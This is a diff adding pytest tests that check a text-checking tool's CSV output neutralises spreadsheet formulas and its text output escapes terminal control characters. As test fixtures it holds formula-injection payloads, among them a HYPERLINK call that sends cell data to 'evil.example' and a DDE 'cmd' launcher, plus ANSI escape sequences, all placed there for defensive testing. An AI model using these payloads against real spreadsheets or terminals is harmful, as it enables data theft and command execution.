@@ -334,3 +334,76 @@ def test_wide_encodings_are_not_checked_as_text(tmp_path, capsys, encoding):
         recs = [json.loads(line) for line in capsys.readouterr().out.splitlines()]
         assert [r["type"] for r in recs] == ["error", "summary"], name  # one error for the file, not one per line
         assert recs[0]["file"] == str(path) and "UTF-" in recs[0]["error"]
+
+
+# --- finding 13: CSV cells cannot run as formulas ----------------------------
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-2+3",
+            "\t=1+1", "\r=1+1"]
+
+
+def test_csv_neutralises_formulas_in_ids_file_names_and_messages_but_not_numbers(tmp_path, capsys):
+    path = tmp_path / "=HYPERLINK(1).jsonl"
+    rows = [{"id": f, "target": "Hello ,world and welcome to the city."} for f in FORMULAS]
+    rows.append({"id": "=1+1"})  # an error record: no target
+    path.write_text("".join(json.dumps(r) + "\n" for r in rows) + "=cmd|' /C calc'!A0\n", encoding="utf-8")
+    assert main(["check", "--no-config", *PUNCT, "--format", "csv", str(path)]) == 2
+    table = list(csv.reader(io.StringIO(capsys.readouterr().out)))
+    header, body = table[0], table[1:]
+    assert len(body) == len(rows) + 1  # one row per record
+    text_columns = [header.index(c) for c in ("file", "segment", "status", "rules", "message")]
+    for r in body:
+        for i in text_columns:
+            assert not r[i].startswith(("=", "+", "-", "@", "\t", "\r")), r[i]
+    assert body[0][header.index("file")] == str(path)  # an absolute path: nothing to neutralise
+    assert [r[header.index("segment")] for r in body[:len(FORMULAS)]] == ["'" + f for f in FORMULAS]
+    score = body[0][header.index("score")]
+    assert score.startswith("-") and float(score) < 0  # a negative score stays a number
+
+
+def test_csv_neutralises_a_file_name_that_starts_like_a_formula(tmp_path, monkeypatch, capsys):
+    monkeypatch.chdir(tmp_path)
+    (tmp_path / "@SUM(A1).jsonl").write_text(json.dumps({"target": SENTENCE}) + "\n", encoding="utf-8")
+    assert main(["check", "--no-config", *PUNCT, "--format", "csv", "@SUM(A1).jsonl"]) == 0
+    table = list(csv.reader(io.StringIO(capsys.readouterr().out)))
+    assert table[1][0] == "'@SUM(A1).jsonl"
+
+
+# --- finding 14: text output shows control characters, never sends them -----
+
+ESCAPES = "\x1b[2J\x1b]0;owned\x07\x9b31m"
+
+
+def _controls(s: str) -> list[str]:
+    return [c for c in s if (ord(c) < 0x20 and c != "\n") or 0x7f <= ord(c) <= 0x9f]
+
+
+def test_text_output_escapes_control_characters_from_text_ids_and_names(tmp_path, capsys):
+    path = tmp_path / "evil\x1b[31m.jsonl"
+    target = f"{ESCAPES}Hello ,world and welcome to the city."
+    path.write_text(json.dumps({"id": f"seg{ESCAPES}", "target": target}) + "\n" + "not json\x1b[2J\n",
+                    encoding="utf-8")
+    assert main(["check", "--no-config", *PUNCT, "--format", "jsonl", str(path)]) == 2
+    issue = json.loads(capsys.readouterr().out.splitlines()[0])["report"]["issues"][0]
+    assert main(["check", "--no-config", *PUNCT, str(path)]) == 2
+    captured = capsys.readouterr()
+    assert _controls(captured.out) == [] and _controls(captured.err) == []
+    assert "evil\\x1b[31m.jsonl" in captured.out and "seg\\x1b[2J\\x1b]0;owned\\x07\\x9b31m" in captured.out
+    assert "evil\\x1b[31m.jsonl:2: not valid JSON" in captured.err  # the error notice on stderr too
+    lines = captured.out.splitlines()
+    excerpt = next(line for line in lines if line.startswith("      | ") and "Hello" in line)[8:]
+    marks = lines[lines.index("      | " + excerpt) + 1][8:]
+    at = marks.index("^")
+    span = target[issue["start"]:issue["end"]]
+    assert excerpt.startswith("\\x1b[2J\\x1b]0;owned\\x07\\x9b31mHello")
+    assert excerpt[at:at + len(marks) - at] == span  # the carets stay under the span
+
+
+def test_text_output_of_a_document_escapes_its_name_message_and_excerpt(tmp_path, capsys):
+    doc = tmp_path / "doc\x1b]0;x\x07.txt"
+    doc.write_text(f"He said, \"Hello\x1b[8m and welcome to the city.", encoding="utf-8")
+    main(["check", "--no-config", *PUNCT, str(doc)])
+    out = capsys.readouterr().out
+    assert _controls(out) == []
+    assert "doc\\x1b]0;x\\x07.txt:1:10  major  punctuation.quotes.unbalanced" in out
+    assert 'He said, "Hello\\x1b[8m and welcome' in out
